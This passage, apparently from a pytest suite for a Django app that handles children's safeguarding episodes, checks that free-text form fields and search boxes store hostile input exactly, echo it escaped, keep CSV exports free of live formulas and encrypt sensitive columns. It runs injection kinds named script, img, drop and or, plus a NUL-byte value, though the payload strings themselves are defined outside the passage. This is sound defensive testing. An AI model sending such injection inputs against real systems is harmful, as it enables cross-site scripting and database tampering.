    ("ConcernForm", "website"),  # the honeypot: a post with it filled is thrown away (public/protection.py)
    ("ConcernForm", "started"),  # the signed time-based token: checked, never kept
    ("AddChildToPanelForm", "la_child_id"),  # looked up in the user's caseload, never kept
    # The partnership register's search: compared with keyed hashes; the words are kept only encrypted, for a few
    # hours, as a saved search (core.searches, Post/Redirect/Get), never in a record (tests/network/test_register.py
    # checks that hostile text is echoed escaped after the redirect).
    ("FindPersonForm", "phone"),
    ("FindPersonForm", "vehicle"),
    ("FindPersonForm", "name"),
    ("FindPlaceForm", "postcode"),
    ("FindPlaceForm", "address"),
    ("MergeProvisionalForm", "existing"),  # a council child ID looked up among the council's records, never kept
    # Who a child was found with: a council child ID looked up among the children the user may see, never kept
    # (the link holds the child's id; tests/episodes/test_found_with.py).
    ("FoundWithFields", "found_with_child_id"),
    ("FoundWithForm", "found_with_child_id"),
    # Why two register records were merged or kept apart: kept encrypted (EncryptedTextField) and shown on no
    # page and in no audit change (tests/network/test_duplicates.py), so there is nothing to escape.
    ("DuplicateDecisionForm", "reason"),
    # An address, not free text: only an https URL passes URLValidator (tests/webhooks test the refusals).
    ("SubscriptionForm", "url"),
}


def _covered(form: type, name: str) -> bool:
    """Driven here itself, or a base form (such as _LinkForm) never used on its own, whose every subclass
    with the field is driven here."""
    if form.__name__ in FORM_CASES:
        return True
    subclasses = [
        sub for sub, sub_name, _ in TEXT_FIELDS if sub_name == name and sub is not form and issubclass(sub, form)
    ]
    return bool(subclasses) and all(sub.__name__ in FORM_CASES for sub in subclasses)


def test_every_free_text_field_is_covered():
    uncovered = sorted(
        f"{form.__name__}.{name}"
        for form, name, _ in TEXT_FIELDS
        if not _covered(form, name) and (form.__name__, name) not in NOT_STORED
    )
    assert not uncovered, f"free-text form fields with no injection case: {uncovered}"


CASES = [
    pytest.param(form.__name__, name, id=f"{form.__name__}.{name}")
    for form, name, _ in TEXT_FIELDS
    if form.__name__ in FORM_CASES and (form.__name__, name) not in NOT_STORED
]


@pytest.fixture
def records(world, case):
    """An open episode (Riley, placed in Northmoor) and Jordan's returned episode with an assigned interview."""
    episode = EpisodeFactory(child=world.placed_child, police_force=world.police_north, created_by=world.users.police)
    return SimpleNamespace(episode=episode, case=case)


def _body(response) -> str:
    return (b"".join(response) if response.streaming else response.content).decode("utf-8", errors="replace")


def _assert_escaped(html: str, where: str) -> None:
    for markup in RAW_MARKUP:
        assert markup not in html, f"raw {markup!r} in {where}"


def _assert_no_live_formula(text: str, where: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a live formula in {where}: {cell[:80]!r}"


def _user(world, records, name: str):
    """A user of the world by name, or "role@agency": one with that role in that agency, made once per test."""
    if "@" not in name:
        return getattr(world.users, name)
    made = records.__dict__.setdefault("made_users", {})
    if name not in made:
        role, agency = name.split("@")
        made[name] = UserFactory(username=name.replace("@", "."), agency=getattr(world, agency), roles=[Role(role)])
    return made[name]


def _assert_encrypted_at_rest(record, column: str, value: str) -> None:
    """An encrypted field's column holds a token, never the text typed."""
    model_field = record._meta.get_field(column)
    if not isinstance(model_field, EncryptedTextField):
        return
    table, db_column = (
        connection.ops.quote_name(record._meta.db_table),
        connection.ops.quote_name(str(model_field.column)),
    )
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {db_column} FROM {table} WHERE id = %s", [record.pk])  # noqa: S608 - names from models
        (raw,) = cursor.fetchone()
    assert raw.startswith(PREFIX) and value.strip() not in raw, f"{column} is not encrypted at rest"


@pytest.mark.parametrize(("form_name", "field"), CASES)
@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_text_is_saved_exactly_and_shown_escaped(world, records, settings, tmp_path, form_name, field, kind):
    settings.HOMEWARD_PRIVATE_MEDIA_ROOT = tmp_path
    case = FORM_CASES[form_name]
    value = HOSTILE[kind]
    client = Client()
    client.force_login(_user(world, records, case.user))
    if case.setup:
        case.setup(world, records)
    data = {**case.data(world, records), **case.per_field.get(field, {}), case.prefix + field: value}
    response = client.post(case.url(world, records), data)
    if response.status_code in (200, 400):
        # Refused (a page answers its form's errors with 200 or 400): the error is on this field, and the form
        # shows the typed value back escaped.
        form = response.context[case.form_context]
        assert field in form.errors, f"{form_name}.{field} ({kind}) refused without a field error: {form.errors}"
        _assert_escaped(_body(response), f"{form_name} re-shown")
        return
    assert response.status_code == 302, f"{form_name}.{field} ({kind}): {response.status_code}"
    record = case.saved(world, records, response)
    column = case.columns.get(field, field)
    stored = case.read[field](record) if field in case.read else getattr(record, column)
    assert stored == value or stored == value.strip().upper() or stored == value.strip(), (form_name, field, kind)
    if field not in case.read:
        _assert_encrypted_at_rest(record, column, value)
    shown_somewhere = False
    for entry in case.shown(world, records, record):
        entry = entry if isinstance(entry, Shown) else Shown(entry)
        viewer = Client()
        viewer.force_login(_user(world, records, entry.user or case.user))
        # A posted search is answered with a redirect to its results page (Post/Redirect/Get): follow it.
        page = viewer.get(entry.url) if entry.post is None else viewer.post(entry.url, entry.post, follow=True)
        assert page.status_code == 200, (entry, page.status_code)
        body = _body(page)
        if page["Content-Type"].startswith("text/html"):
            _assert_escaped(body, entry.url)
            shown_somewhere |= escape(stored) in body
        elif page["Content-Type"].startswith("text/csv"):
            _assert_no_live_formula(body, entry.url)
    if kind != "long":  # a page may shorten very long text
        assert shown_somewhere, f"{form_name}.{field} ({kind}) is shown escaped on none of its pages"


SEARCHES = [
    ("children:search", "q", "post"),
    ("network:persons", "q", "post"),
    ("network:places", "q", "post"),
    ("governance:audit", "username", "post"),
    ("governance:audit", "child", "post"),
]


@pytest.mark.parametrize(("name", "field", "method"), SEARCHES)
@pytest.mark.parametrize("kind", ["script", "img", "drop", "or", "unicode"])
def test_search_boxes_echo_hostile_text_escaped(world, name, field, method, kind):
    from access.models import Role
    from tests.factories import UserFactory

    user = (
        UserFactory(username="auditor.sec", agency=world.north, roles=[Role.AUDITOR])
        if name.startswith("governance")
        else world.users.coordinator
    )
    client = Client()
    client.force_login(user)
    # A valid search is answered with a redirect to its results page (Post/Redirect/Get): follow it.
    response = getattr(client, method)(reverse(name), {field: HOSTILE[kind]}, follow=True)
    assert response.status_code in {200, 400}, (name, response.status_code)
    _assert_escaped(_body(response), name)
    nul = getattr(client, method)(reverse(name), {field: "a\x00b"})
    assert nul.status_code in {200, 400}, (name, "NUL", nul.status_code)
